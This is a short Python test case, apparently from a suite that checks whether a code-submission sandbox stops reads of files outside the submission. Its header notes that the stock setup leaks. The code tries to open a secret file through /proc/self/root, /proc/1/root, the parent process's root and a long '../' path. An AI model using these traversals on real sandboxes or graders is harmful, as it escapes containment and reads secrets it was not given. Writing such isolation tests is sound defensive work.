# tries: to read a file outside of the submission, by its path and by way of other processes' roots
# points: none
# flag: no
# stock: yes, leaks
# %% answer: relative-change
import json
import os

secret = json.load(open("targets.json"))["secret"]
for root in ("", "/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/cwd/../../../../../.."):
    try:
        print(open(root + secret).read())
    except OSError as error:
        print(error.strerror)
